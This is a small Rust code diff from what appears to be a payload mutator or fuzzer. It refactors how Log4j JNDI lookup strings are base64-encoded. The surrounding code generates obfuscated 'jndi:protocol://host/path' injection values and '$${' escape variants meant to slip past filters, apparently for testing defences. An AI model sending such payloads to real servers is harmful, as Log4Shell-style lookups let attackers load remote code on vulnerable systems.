@@ -90,7 +90,7 @@ impl Family for Jndi {
             // The lookup's name spelled in base64 (`${${base64:am5kaTpsZGFwOi8v...}}`).
             1 => {
                 names.push("base64");
-                format!("${{${{base64:{}}}}}", base64(format!("jndi:{protocol}://{host}/{path}").as_bytes()))
+                format!("${{${{base64:{}}}}}", crate::mutate::base64(format!("jndi:{protocol}://{host}/{path}").as_bytes()))
             }
             // `$${`: Log4j's escape, written by attackers hoping a filter skips it.
             2 => {
@@ -210,23 +210,6 @@ fn lookup(rng: &mut Rng, c: char, kinds: &mut Vec<&'static str>) -> String {
         }
     };
     inner
-}
-
-/// Standard base64 with padding.
-fn base64(bytes: &[u8]) -> String {
-    const ALPHABET: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
-    let mut out = String::new();
-    for chunk in bytes.chunks(3) {
-        let n = chunk.iter().enumerate().fold(0u32, |acc, (k, &b)| acc | (b as u32) << (16 - 8 * k));
-        for k in 0..4 {
-            if k <= chunk.len() {
-                out.push(ALPHABET[(n >> (18 - 6 * k) & 63) as usize] as char);
-            } else {
-                out.push('=');
-            }
-        }
-    }
-    out
 }
 
 fn note(kinds: &mut Vec<&'static str>, kind: &'static str) {
